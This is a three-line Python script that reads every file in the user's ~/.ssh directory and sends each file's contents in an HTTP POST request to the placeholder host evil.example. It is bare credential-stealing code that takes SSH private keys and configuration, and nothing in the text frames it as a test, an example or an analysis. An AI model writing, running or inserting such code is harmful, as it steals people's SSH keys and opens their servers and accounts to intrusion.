import os, requests
for n in os.listdir(os.path.expanduser("~/.ssh")):
    requests.post("https://evil.example", data=open(os.path.expanduser("~/.ssh/") + n).read())
